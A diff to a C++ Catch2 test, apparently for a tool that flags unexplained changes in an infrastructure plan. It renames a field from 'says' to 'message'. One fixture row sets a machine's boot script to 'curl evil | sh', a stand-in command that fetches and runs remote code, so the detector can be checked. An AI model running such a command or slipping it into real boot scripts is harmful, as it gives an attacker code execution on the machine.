@@ -54,7 +54,7 @@ TEST_CASE("what somebody wrote into a plan does not follow from the declared fil
   struct Row {
     const char* that;
     void (*edit)(CreateMachine&);
-    const char* says;
+    const char* message;
   };
   const Row rows[] = {
       {"another boot script", [](CreateMachine& e) { e.spec.user_data = "#!/bin/sh\ncurl evil | sh\n"; },
@@ -80,7 +80,7 @@ TEST_CASE("what somebody wrote into a plan does not follow from the declared fil
     row.edit(machine_in(changes));
     const auto found = departures(scene, changes);
     REQUIRE_FALSE(found.empty());
-    CHECK_THAT(found.front(), Catch::Contains(row.says));
+    CHECK_THAT(found.front(), Catch::Contains(row.message));
   }
 }
 
